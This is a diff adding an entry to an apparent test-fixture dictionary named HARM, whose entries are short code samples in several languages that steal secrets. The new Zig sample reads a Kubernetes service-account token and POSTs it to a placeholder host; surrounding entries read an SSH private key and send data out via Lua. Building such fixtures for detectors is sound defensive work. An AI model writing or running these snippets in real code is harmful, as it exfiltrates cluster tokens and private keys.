@@ -46,6 +46,12 @@ HARM: dict[str, dict[str, str]] = {
             f'http.request("{HOST}/?q=" .. t)\n'
         )
     },
+    "a cluster's token, in Zig": {
+        "a.zig": (
+            'const t = try dir.readFileAlloc(a, "/var/run/secrets/kubernetes.io/serviceaccount/token", 9);\n'
+            f'var req = try client.open(.POST, try std.Uri.parse("{HOST}/u"), .{{}});\n'
+        )
+    },
     "an SSH key, in Swift": {
         "a.swift": (
             'let key = try String(contentsOf: home.appendingPathComponent(".ssh/id_ed25519"))\n'
